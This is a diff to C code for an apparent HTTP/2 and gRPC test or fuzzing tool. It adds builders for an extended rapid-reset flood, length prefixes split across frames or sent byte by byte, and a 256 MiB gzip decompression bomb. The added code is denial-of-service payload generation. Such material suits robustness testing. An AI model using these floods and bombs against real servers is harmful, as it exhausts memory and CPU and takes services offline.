@@ -4,6 +4,8 @@
 #define WINDOW_DEFAULT ((uint32_t)1 << 20)  /* bytes */
 #define OVER_WINDOW    ((uint32_t)96 << 10) /* bytes beyond it: what was being processed may have been given back */
 #define DATA_PIECE     ((uint32_t)16384)    /* bytes */
+#define RST_LONG       4                    /* times as many resets as other floods have frames */
+#define BOMB_PIECES    256                  /* MiB, when unpacked */
 
 static void window(struct frame_build *b, uint32_t stream, uint32_t by)
 {
@@ -85,6 +87,15 @@ int op_rst_storm(struct frame_build *b)
     frame_build_hello(b);
     frame_build_here(b);
     frame_build_flood(b, b->repeat, one_rapid_reset);
+    return 0;
+}
+
+/* Beyond what any defence lets pass: somebody has to call it enough. */
+int op_rst_storm_long(struct frame_build *b)
+{
+    frame_build_hello(b);
+    frame_build_here(b);
+    frame_build_flood(b, b->repeat * RST_LONG, one_rapid_reset);
     return 0;
 }
 
@@ -383,4 +394,69 @@ int op_message_prefix_hold(struct frame_build *b)
     frame_build_here(b);
     frame_build_flood(b, b->repeat / 20 + (b->repeat < 20), one_promise);
     return 0;
+}
+
+/* A message whose prefix comes in pieces: where frames end says nothing about it. */
+int op_message_prefix_split(struct frame_build *b)
+{
+    frame_build_hello(b);
+    frame_build_here(b);
+    frame_build_headers(b, b->plan->path, NULL, 1, FRAME_END_HEADERS, 0);
+    struct text message = TEXT_INIT;
+    frame_put_message(&message, b->plan->message);
+    const size_t first = 3; /* bytes of the prefix in the first frame */
+    int rc = text_ok(&message) ? 0 : ERROR_MEMORY;
+    if (rc == 0) {
+        frame_build_frame(b, FRAME_DATA, 0, 1, BYTES(message.data, first));
+        frame_build_pause(b, FRAMES_PAUSE);
+        frame_build_frame(b, FRAME_DATA, FRAME_END_STREAM, 1, BYTES(message.data + first, message.len - first));
+    }
+    text_deinit(&message);
+    return rc;
+}
+
+/* The same byte by byte, without a pause, and its end in a frame of nothing. */
+int op_message_in_bytes(struct frame_build *b)
+{
+    frame_build_hello(b);
+    frame_build_here(b);
+    frame_build_headers(b, b->plan->path, NULL, 1, FRAME_END_HEADERS, 0);
+    struct text message = TEXT_INIT;
+    frame_put_message(&message, b->plan->message);
+    for (size_t i = 0; text_ok(&message) && i < message.len && i < 64; i++)
+        frame_put(&b->text, FRAME_DATA, 0, 1, BYTES(message.data + i, 1));
+    if (message.len > 64)
+        frame_put(&b->text, FRAME_DATA, 0, 1, BYTES(message.data + 64, message.len - 64));
+    frame_put_head(&b->text, 0, FRAME_DATA, FRAME_END_STREAM, 1);
+    int rc = text_ok(&message) ? 0 : ERROR_MEMORY;
+    frame_build_flush(b);
+    text_deinit(&message);
+    return rc;
+}
+
+/* Zeros, packed: a thousandth of what they become. Who unpacks before he looks at the limit holds all of it. */
+int op_message_gzip_bomb(struct frame_build *b)
+{
+    struct text bomb = TEXT_INIT;
+    int rc = frame_build_gzip_zeros(&bomb, BOMB_PIECES);
+    frame_build_hello(b);
+    frame_build_here(b);
+    frame_build_headers(b, b->plan->path,
+                        ":method: POST\n:scheme: http\n:path: @\n:authority: $\ncontent-type: application/grpc\n"
+                        "te: trailers\ngrpc-encoding: gzip\n",
+                        1, FRAME_END_HEADERS, 0);
+    text_char(&b->text, 1);
+    frame_put_number(&b->text, (uint32_t)bomb.len);
+    text_add(&b->text, bomb.data, bomb.len);
+    struct text message = b->text; /* cut into frames */
+    b->text = TEXT_INIT;
+    for (size_t at = 0; rc == 0 && at < message.len; at += DATA_PIECE) {
+        size_t len = message.len - at < DATA_PIECE ? message.len - at : DATA_PIECE;
+        frame_build_frame(b, FRAME_DATA, at + len == message.len ? FRAME_END_STREAM : 0, 1,
+                          BYTES(message.data + at, len));
+    }
+    rc = rc == 0 && !text_ok(&message) ? ERROR_MEMORY : rc;
+    text_deinit(&message);
+    text_deinit(&bomb);
+    return rc;
 }
